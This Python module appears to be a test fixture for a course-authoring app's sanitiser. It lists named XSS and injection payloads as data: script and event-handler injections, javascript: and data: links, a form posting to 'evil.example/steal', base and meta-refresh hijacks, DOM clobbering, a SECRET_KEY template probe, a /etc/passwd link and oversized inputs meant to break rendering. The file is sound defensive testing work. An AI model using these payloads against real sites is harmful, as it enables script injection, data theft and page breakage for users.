"""What a spiteful author writes: named attacks as data, in batches that one course holds at once.

Each tries to set ``window.pwned``, to load something from ``evil.example``, to open a dialog, or
to break the page that shows it.
"""

from dataclasses import dataclass

PLAIN_DRAWING = "<svg xmlns='http://www.w3.org/2000/svg'><rect width='9' height='9'/></svg>"
RUN = "window.pwned=1;alert(1)"
EVIL = "//evil.example"
MOST = 20_000
"""Characters that one text of a question may have."""


@dataclass(frozen=True, slots=True)
class Attack:
    """A text for every place an author writes in, and a drawing.

    ``refused`` texts cannot be stored at all: the forms say so, and no page ever shows them.
    ``anchor`` is the name of a section of the lesson.
    """

    name: str
    text: str
    svg: str = PLAIN_DRAWING
    anchor: str = "first"
    refused: bool = False

    def stored(self) -> str:
        """Return what of the text the tables can hold."""
        return self.text.replace("\0", "")[:MOST].strip()

    def line(self, length: int = 300) -> str:
        """Return the text as a title."""
        return " ".join(self.stored().split())[:length].strip()

    def __str__(self) -> str:
        return self.name


def _svg(inside: str, attributes: str = "") -> str:
    return f'<svg xmlns="http://www.w3.org/2000/svg" viewBox="0 0 9 9" {attributes}>{inside}</svg>'


BATCHES = {
    "script": (
        Attack("script-tag", f"<script>{RUN}</script><SCRIPT SRC={EVIL}/a.js></SCRIPT>"),
        Attack("img-onerror", f"<img src=x onerror='{RUN}'> ![x](https:{EVIL}/pixel.gif)"),
        Attack(
            "svg-onload",
            f"<svg onload='{RUN}'><script>{RUN}</script></svg>",
            svg=_svg(f"<script>{RUN}</script>", f'onload="{RUN}"'),
        ),
        Attack(
            "svg-links-out",
            f"<svg><use href='{EVIL}/a.svg#x'/></svg>",
            svg=_svg(
                f"<image href='https:{EVIL}/a.png'/><a href='javascript:{RUN}'><text>x</text></a>"
                f"<foreignObject><iframe xmlns='http://www.w3.org/1999/xhtml' src='{EVIL}'/>"
                f"</foreignObject><animate attributeName='href' to='javascript:{RUN}'/>"
                f"<style>*{{fill:url({EVIL}/s)}}</style><rect fill='url({EVIL}/f#a)'/>"
            ),
        ),
        Attack("end-of-textarea", f"</textarea></title></style></template><script>{RUN}</script>"),
        Attack("end-of-script", f'"}}]</script><script>{RUN}</script><!-- \\u003c/script>'),
        Attack("comments", f"<!--><script>{RUN}</script>--> <![CDATA[<script>{RUN}</script>]]>"),
    ),
    "links": (
        Attack("javascript-link", f"[a](javascript:{RUN}) <javascript:{RUN}>"),
        Attack("link-in-mixed-case", f"[a](JaVaScRiPt:{RUN}) [a](\x20java\tscript:{RUN})"),
        Attack("link-in-entities", f"[a](&#106;avascript&colon;{RUN}) [a](java&NewLine;script:x)"),
        Attack("data-link", f"[a](data:text/html,<script>{RUN}</script>) ![a](data:image/svg,x)"),
        Attack("vbscript-link", "[a](vbscript:msgbox) [a](file:///etc/passwd) [a](blob:x)"),
        Attack("link-by-reference", f"[a]\n\n[a]: javascript:{RUN} 'x'\n[b]: {EVIL} \"x\""),
        Attack("broken-escapes", "[a](term:%E0%A4%A) [a](#%E0) [a](term:%ZZ) [a](http://[%zz)"),
    ),
    "attributes": (
        Attack("link-title", f'[a](https://example.org \'" onmouseover="{RUN}" x="\')'),
        Attack("alt-text", f'![" onerror="{RUN}" src=x "](x) ![a](x "\' onload=\'{RUN}")'),
        Attack("quotes", f"\"'` autofocus onfocus=\"{RUN}\" x='><b onclick='{RUN}' y=\""),
        Attack("term-attribute", f'[a](term:x"onmouseover="{RUN}) [a](source:"><img/src=x>)'),
        Attack(
            "style",
            f"<style>*{{background:url({EVIL}/s)}}</style><p style='position:fixed;inset:0'>x</p>",
            svg=_svg(
                f"<rect style='fill:url({EVIL}/s)' class='visually-hidden' filter='url({EVIL}#a)'/>"
            ),
        ),
        Attack(
            "htmx",
            f"<div hx-get='{EVIL}/a' hx-trigger=load hx-on:load='{RUN}' data-hx-post=/x>x</div>",
            svg=_svg(f"<g hx-get='{EVIL}/b' hx-trigger='load' data-hx-on-load='{RUN}'/>"),
        ),
    ),
    "elements": (
        Attack("base", f"<base href={EVIL}/ target=_blank>"),
        Attack("meta-refresh", f"<meta http-equiv=refresh content='0;url={EVIL}/'>"),
        Attack(
            "form",
            f"</form><form action={EVIL}/steal method=post><button form=editor formaction={EVIL}>",
        ),
        Attack(
            "frames", f"<iframe src={EVIL} srcdoc='x'></iframe><object data={EVIL}><embed src=x>"
        ),
        Attack(
            "clobbered-status",
            "## x {#status}\n\n<form id=editor><input name=action>",
            anchor="status",
        ),
        Attack("clobbered-main", "## x {#main}\n\n<a id=main name=__proto__>", anchor="main"),
        Attack(
            "prototype", "__proto__ constructor.prototype [a](term:__proto__) ## x {#__proto__}"
        ),
        Attack("template", "{{ settings.SECRET_KEY }} {% load static %} {% endblock %} ${x} {# x"),
    ),
    "layout": (
        Attack(
            "bidi",
            "\u202e\u2066abc\u2067 \u200b\u200d\ufeff\u061c\u2069 x\u202a" + "e\u0301\u0302" * 60,
        ),
        Attack("unclosed-fence", "```html\n~~~\n::: note\n::: recall x\n<b>\n- a\n  ```"),
        Attack("wide-table", "|a" * 300 + "|\n" + "|-" * 300 + "|\n" + "|x" * 300 + "|"),
        Attack("deep-quotes", ">" * 6_000 + " x"),
        Attack("deep-lists", "".join(f"{' ' * 2 * n}- x\n" for n in range(130))),
        Attack("deep-brackets", "[" * 2_000 + "*_" * 500 + "![" * 500 + "x"),
        Attack("long-word", "w" * 30_000),
        Attack("long-code", "`" + "c" * 9_000 + "`\n\n    " + "d" * 9_000),
        Attack("zero-byte", "a\0b <script\0>window.pwned=1</script>", refused=True),
    ),
}
